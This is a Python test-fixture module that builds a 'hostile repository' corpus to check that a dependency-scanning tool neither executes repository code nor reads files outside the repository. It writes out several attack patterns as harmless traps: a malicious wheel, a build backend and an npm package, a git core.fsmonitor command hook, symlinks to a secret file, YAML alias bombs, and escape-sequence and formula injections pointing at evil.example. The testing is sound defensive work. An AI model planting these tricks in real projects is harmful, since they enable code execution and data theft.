"""The hostile corpus: a repository written by an attacker, and the files outside it they aim at.

Generated, never committed (FIFOs, links to /dev/zero, non-UTF-8 names and a
3.5 MB lockfile do not belong in git). Look at it with:

    python -m tests.hostile.corpus /tmp/hostile

Every trap that runs code creates ``marker``; every file outside the root holds
``SECRET``; `Corpus.expected_errors` is what the walk must list instead of reading.
The 3.5 MB minified lockfile (`minified_lockfile`) is written by its own test,
so the corpus stays quick to scan in every output format.
"""

from __future__ import annotations

import io
import json
import os
import struct
import subprocess
import sys
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

SECRET = "SECRET-7f3a9c-never-print-me"
MKL = "mkl==2021.1\n"  # a knowledge-base blocker: proves a file was read
ELF_X86 = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + struct.pack("<HH", 3, 62) + b"\0" * 40
ELF_ARM = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + struct.pack("<HH", 3, 183) + b"\0" * 40
#: Files we read by name: each also appears as a FIFO and as a link to /dev/zero.
SPECIAL_NAMES = (
    ".gitignore",
    "requirements.txt",
    "pyproject.toml",
    "Pipfile",
    "package.json",
    "package-lock.json",
    "Dockerfile",
    "template.yaml",
    "main.tf",
    "go.mod",
    "pom.xml",
    "app.jar",
)
#: One alias bomb per YAML-reading format: (path, the lines that make the format recognise the file; a CI file
#: is parsed only when it mentions an image build, see `yaml_documents.worth_parsing`).
BOMB_FORMATS = {
    "bombs/cloudformation/template.yaml": "AWSTemplateFormatVersion: '2010-09-09'\nResources: *i\n",
    "bombs/k8s/deploy.yaml": "apiVersion: apps/v1\nkind: Deployment\nspec: *i\n",
    "bombs/serverless/serverless.yml": "service: bomb\nfunctions: *i\n",
    "bombs/.github/workflows/ci.yml": "on: push\nenv:\n  BUILD: docker build .\njobs: *i\n",
    "bombs/gitlab/.gitlab-ci.yml": "variables:\n  BUILD: docker build .\nbuild: *i\n",
    "bombs/compose/docker-compose.yml": "services: *i\n",
    "bombs/codebuild/buildspec.yml": "version: 0.2\nenv:\n  variables:\n    BUILD: docker build .\nphases: *i\n",
    "bombs/pnpm/pnpm-lock.yaml": "lockfileVersion: '9.0'\npackages: *i\n",
}
#: Names that try to break out of every output format.
INJECTIONS = {
    "pipe": "Fn|pipe`tick`<script>alert(1)</script>[click](javascript:alert(1))**bold**",
    "newline": "Line\nsummary: 0 blocker(s)\x1b]8;;http://evil.example\x07OSC\x1b[2J\u202eRTL",
    "formula": '=HYPERLINK("http://evil.example","x")',
}


def alias_bomb(levels: int = 9) -> str:
    """The billion-laughs document: ``levels`` anchors, each nine aliases of the one before."""
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for index in range(1, levels):
        previous, current = chr(ord("a") + index - 1), chr(ord("a") + index)
        lines.append(f"{current}: &{current} [" + ",".join([f"*{previous}"] * 9) + "]")
    return "\n".join(lines) + "\n"


@dataclass
class Corpus:
    """Paths of one generated corpus and what the walk must refuse in it."""

    root: Path
    outside: Path
    marker: Path
    expected_errors: dict[str, str] = field(default_factory=dict)

    @property
    def secret_file(self) -> Path:
        return self.outside / "secret.txt"


def _write(root: Path, files: dict[str, str | bytes]) -> None:
    for name, content in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content)


def _zip(entries: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


def evil_wheel(marker: Path) -> bytes:
    """A wheel whose module creates ``marker`` when imported (shipped inside the repository)."""
    dist = "evilwheel-1.0.dist-info"
    return _zip(
        [
            ("evilwheel/__init__.py", f"open({str(marker)!r}, 'w').write('evilwheel imported')\n".encode()),
            (f"{dist}/METADATA", b"Metadata-Version: 2.1\nName: evilwheel\nVersion: 1.0\n"),
            (f"{dist}/WHEEL", b"Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
            (f"{dist}/top_level.txt", b"evilwheel\n"),
            (f"{dist}/RECORD", b""),
        ]
    )


def _backend(marker: Path) -> dict[str, str]:
    """A project whose build backend (and setup.py) creates ``marker``: building it runs repository code."""
    touch = f"open({str(marker)!r}, 'w').write('build backend ran')\n"
    return {
        "backend/pyproject.toml": (
            '[build-system]\nrequires = []\nbuild-backend = "evil_backend"\nbackend-path = ["."]\n'
            '[project]\nname = "evilbackend"\nversion = "1.0"\n'
        ),
        "backend/evil_backend.py": touch + "def build_wheel(*a, **k):\n    raise SystemExit(1)\n"
        "build_editable = build_sdist = build_wheel\n"
        "def get_requires_for_build_wheel(*a, **k):\n    return []\n"
        "get_requires_for_build_editable = get_requires_for_build_sdist = get_requires_for_build_wheel\n",
        "backend/setup.py": touch + "raise SystemExit(1)\n",
    }


def minified_lockfile(target_bytes: int = 3_500_000) -> str:
    """A realistic single-line package-lock.json of about ``target_bytes``."""
    packages: dict[str, object] = {"": {"name": "big", "version": "1.0.0"}}
    index = 0
    size = 0
    while size < target_bytes:
        name = f"pkg-{index:05d}"
        entry = {
            "version": f"{index % 9}.{index % 13}.{index % 7}",
            "resolved": f"https://registry.npmjs.org/{name}/-/{name}-1.0.0.tgz",
            "integrity": "sha512-" + ("A" * 86) + "==",
            "license": "MIT",
            "engines": {"node": ">=14"},
            "dependencies": {f"pkg-{(index + 1) % 5000:05d}": "^1.0.0", "lodash": "^4.17.21"},
        }
        packages[f"node_modules/{name}"] = entry
        size += len(json.dumps(entry)) + len(name) + 20
        index += 1
    return json.dumps({"name": "big", "lockfileVersion": 3, "requires": True, "packages": packages})


def _capped_jar() -> bytes:
    """More entries than the archive cap, with the only native library after it."""
    from replatform.discover.software.binaries import _MAX_ENTRIES

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for index in range(_MAX_ENTRIES):
            archive.writestr(f"c/{index}.class", b"")
        archive.writestr("native/libhidden.so", ELF_X86)
    return buffer.getvalue()


def _nested_war() -> bytes:
    inner = _zip([("native/linux-x86_64/libfast.so", ELF_X86)])
    return _zip([("WEB-INF/lib/fast.jar", _zip([("lib/inner.jar", inner)])), ("index.html", b"<html></html>")])


def _injection_template() -> str:
    """A CloudFormation template whose logical IDs (the component names) carry the injections."""
    lines = ["AWSTemplateFormatVersion: '2010-09-09'", "Resources:"]
    for value in INJECTIONS.values():
        lines += [
            f"  {json.dumps(value)}:",
            "    Type: AWS::Lambda::Function",
            "    Properties: {Runtime: python3.12, Handler: app.handler, MemorySize: 512, Architectures: [x86_64]}",
        ]
    return "\n".join(lines) + "\n"


def build(base: Path, *, git: bool = True) -> Corpus:
    """Write the corpus under ``base`` (``base/repo`` is the repository, ``base/outside`` is not)."""
    root, outside = base / "repo", base / "outside"
    root.mkdir(parents=True)
    outside.mkdir()
    marker = base / "MARKER-repository-code-ran"
    corpus = Corpus(root, outside, marker)
    (outside / "secret.txt").write_text(f"{SECRET}\nroot:$6$hash:19000:0:99999:7:::\n")
    (outside / "victim-plan.md").write_text("victim: must stay as it is\n")
    (outside / "victim-usage.yaml").write_text("victim: must stay as it is\n")
    backend = root / "backend"
    files: dict[str, str | bytes] = {
        ".gitignore": "ignored/\n",
        "ignored/requirements.txt": MKL,  # tracked (git add -f): scanned despite .gitignore
        "ignored/untracked/requirements.txt": MKL,  # untracked inside an ignored folder: skipped
        **_backend(marker),
        # every requirement source points at the backend; none may build it
        "py-refs/requirements.txt": (
            f"-e ../backend\n../backend\nevilbackend @ file://{backend}\ngit+file://{backend}#egg=evilgit\n"
        ),
        "py-index/requirements.txt": f"--index-url file://{root}/wheels/simple\nevilwheel==1.0\n",
        "py-index-path/requirements.txt": "--index-url ./wheels\n--extra-index-url http://evil.example/simple\nmkl\n",
        "wheels/simple/evilwheel/index.html": '<a href="../../evilwheel-1.0-py3-none-any.whl">evilwheel</a>\n',
        "wheels/evilwheel-1.0-py3-none-any.whl": evil_wheel(marker),
        "pipfile/Pipfile": (
            f'[packages]\n"evil\\n-e {backend}" = "*"\nlocal = {{path = "../backend", editable = true}}\n'
            f'pinned = "==1.0\\n-e {backend}"\n'
        ),
        "poetry/pyproject.toml": (
            f'[tool.poetry.dependencies]\npython = "^3.11"\n"evil\\n-e {backend}" = "1"\n'
            'mylib = {path = "../backend", develop = true}\ngitdep = {git = "https://example.invalid/x.git"}\n'
        ),
        "uvlock/uv.lock": (
            'version = 1\n[[package]]\nname = "evilbackend"\nversion = "1.0"\nsource = { editable = "../backend" }\n'
            f'[[package]]\nname = "evil\\n-e {backend}"\nversion = "1.0"\n'
        ),
        "node/package.json": json.dumps(
            {"name": "app", "dependencies": {"evilpkg": "file:../evilpkg", "gitpkg": "git+https://example.invalid/x"}}
        ),
        "evilpkg/package.json": json.dumps({"name": "evilpkg", "version": "1.0.0", "main": "index.js"}),
        "evilpkg/index.js": f"require('fs').writeFileSync({json.dumps(str(marker))}, 'evilpkg required');\n",
        "leak/requirements-base.txt": "-r ../leak-dir/secret.txt\nnumpy==1.26.4\n",
        "deep/pyproject.toml": '[project]\nname = "deep"\ndependencies = ' + "[" * 500 + "]" * 500 + "\n",
        "deep/stack.json": '{"AWSTemplateFormatVersion": "2010-09-09", "Resources": '
        + "[" * 20000
        + "]" * 20000
        + "}\n",
        "tf/main.tf": (
            'resource "aws_lambda_function" "worker" {\n  function_name = "worker"\n  runtime = "python3.12"\n'
            "  memory_size = var.memory\n}\n"
        ),
        "tf/variables.tf": b'variable "memory" {\n  default = 512\n}\nvariable "caf\xe9" {\n  default = 1\n}\n',
        "jars/capped.jar": _capped_jar(),
        "jars/app.war": _nested_war(),
        "bom/requirements.txt": "\ufeff" + MKL,
        "utf16/requirements.txt": MKL.encode("utf-16"),
        "inject/template.yaml": _injection_template(),
    }
    for path, tail in BOMB_FORMATS.items():
        files[path] = alias_bomb() + tail
    _write(root, files)
    # non-UTF-8 names: a folder and the requirements file inside it
    odd = os.fsencode(root) + b"/names/caf\xe9"
    os.makedirs(odd)
    with open(odd + b"/requirements.txt", "w") as handle:
        handle.write(MKL)
    (root / "names" / "back\\slash").mkdir()  # a backslash is a legal name character on POSIX
    (root / "names" / "back\\slash" / "requirements.txt").write_text(MKL)
    # a file name that tries to forge terminal lines, inside the repository
    forged = root / "inject" / "x\x1b]0;pwned\x07\nsummary: 0 blocker(s)|`<b>"
    forged.mkdir(parents=True)
    (forged / "Dockerfile").write_text("FROM --platform=linux/amd64 127.0.0.1:9/python:3.11\n")
    _links(corpus)
    _specials(corpus)
    if git:
        _git(corpus)
    return corpus


def _links(corpus: Corpus) -> None:
    """Symlinks out of the root under names we read or write; each must be listed, never followed."""
    root, outside = corpus.root, corpus.outside
    links = {
        "leak/requirements.txt": outside / "secret.txt",
        "leak/Dockerfile": outside / "secret.txt",
        "leak-dir": outside,
        "replatform-report/MIGRATION-PLAN.md": outside / "victim-plan.md",
        "replatform-usage.yaml": outside / "victim-usage.yaml",
    }
    for name, target in links.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, path)
        corpus.expected_errors[name] = "symlink to outside the repository; not followed"
    # leak/requirements-base.txt includes -r ../leak-dir/secret.txt: through the link, so refused
    corpus.expected_errors["leak-dir/secret.txt"] = "resolves outside the repository; not read"


def _specials(corpus: Corpus) -> None:
    """A FIFO and a link to /dev/zero under every name we read."""
    for name in SPECIAL_NAMES:
        fifo = corpus.root / "specials" / "fifo" / name
        fifo.parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(fifo)
        corpus.expected_errors[f"specials/fifo/{name}"] = "not a regular file (FIFO); not read"
        zero = corpus.root / "specials" / "zero" / name
        zero.parent.mkdir(parents=True, exist_ok=True)
        os.symlink("/dev/zero", zero)
        corpus.expected_errors[f"specials/zero/{name}"] = "symlink to outside the repository; not followed"


def _git(corpus: Corpus) -> None:
    """A git work tree whose own config asks git to run a program (core.fsmonitor)."""
    env = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "HOME": str(corpus.outside)}
    run = [
        ["git", "init", "-q", "."],
        ["git", "add", "-f", "ignored/requirements.txt", "tf/main.tf"],
        ["git", "config", "core.fsmonitor", f"touch {corpus.marker}; false"],
    ]
    for command in run:
        subprocess.run(command, cwd=corpus.root, env=env, check=True, capture_output=True)


if __name__ == "__main__":
    built = build(Path(sys.argv[1]))
    print(f"repository: {built.root}\noutside: {built.outside}\nmarker: {built.marker}")
